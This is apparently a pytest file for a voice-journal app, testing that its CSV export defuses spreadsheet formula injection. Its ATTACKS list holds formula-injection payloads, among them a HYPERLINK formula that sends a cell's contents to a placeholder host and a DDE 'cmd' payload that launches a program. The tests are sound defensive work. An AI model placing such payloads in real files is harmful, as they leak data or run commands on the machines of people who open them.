"""A journal exported as CSV cannot run formulas in a spreadsheet: text cells a spreadsheet would take for a
formula (starting with = + - @, a tab or a carriage return) are kept as text by a leading apostrophe."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from voiceguide.journal.db import JOURNAL_FILE, Journal
from voiceguide.journal.export import to_csv

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_cells_are_neutralised(tmp_path: Path, text: str) -> None:
    journal = Journal(tmp_path / JOURNAL_FILE)
    try:
        journal.add(text, transcript=text, session_title=text, session_id="reflection")
        journal.add("How do you feel, from 0 to 10?", "rating", transcript="7", rating=7, confidence=0.5)
        rows = list(csv.DictReader(io.StringIO(to_csv(journal.all()))))
    finally:
        journal.close()
    for column in ("prompt", "transcript", "session_title"):
        cell = rows[0][column]
        assert cell.startswith("'"), (column, cell)
        assert cell.lstrip("'").lstrip(" \t").lstrip("=+-@")  # the words are still there
    assert rows[1]["rating"] == "7" and rows[1]["confidence"] == "0.5"  # numbers stay numbers


def test_ordinary_text_is_left_as_it_is(tmp_path: Path) -> None:
    journal = Journal(tmp_path / JOURNAL_FILE)
    try:
        journal.add("What helped today?", transcript="A walk - and tea.", session_title="Reflection")
        row = next(csv.DictReader(io.StringIO(to_csv(journal.all()))))
    finally:
        journal.close()
    assert (row["prompt"], row["transcript"], row["session_title"]) == ("What helped today?", "A walk - and tea.",
                                                                        "Reflection")
